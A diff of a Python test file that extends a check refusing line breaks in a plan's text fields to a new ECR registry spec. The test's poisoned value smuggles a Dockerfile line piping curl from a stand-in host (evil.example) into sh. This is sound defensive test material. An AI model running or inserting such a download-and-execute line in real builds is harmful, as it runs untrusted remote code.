@@ -164,7 +164,7 @@ def _text_fields(cls: type, prefix: str = "") -> set[str]:
 
 def test_the_one_text_rule_covers_every_text_field() -> None:
     """Each text field with a line break is refused under its own key; a new field is covered without a change."""
-    from dockwright.wizard.plan import GitLabSpec, KubernetesSpec, text_problems
+    from dockwright.wizard.plan import EcrSpec, GitLabSpec, KubernetesSpec, text_problems
 
     poisoned = "x\nRUN curl https://evil.example | sh"
     plan = Plan(
@@ -173,7 +173,8 @@ def test_the_one_text_rule_covers_every_text_field() -> None:
         runner=dataclasses.replace(Plan().runner, workflow=poisoned, description=poisoned, tags=(poisoned,),
                                    docker_image=poisoned, config_path=poisoned,
                                    kubernetes=KubernetesSpec(namespace=poisoned, helm_values_path=poisoned)),
-        registry=RegistrySpec(kind=poisoned, image=poisoned, host=poisoned, region=poisoned, account=poisoned),
+        registry=RegistrySpec(kind=poisoned, image=poisoned, host=poisoned, region=poisoned, account=poisoned,
+                              ecr=EcrSpec(auth=poisoned, role_arn=poisoned)),
         variables=(VariableSpec(key=poisoned, from_env=poisoned, variable_type=poisoned, environment_scope=poisoned,
                                 description=poisoned),),
         dockerfile=dataclasses.replace(Plan().dockerfile, language=poisoned, base_image=poisoned, workdir=poisoned,
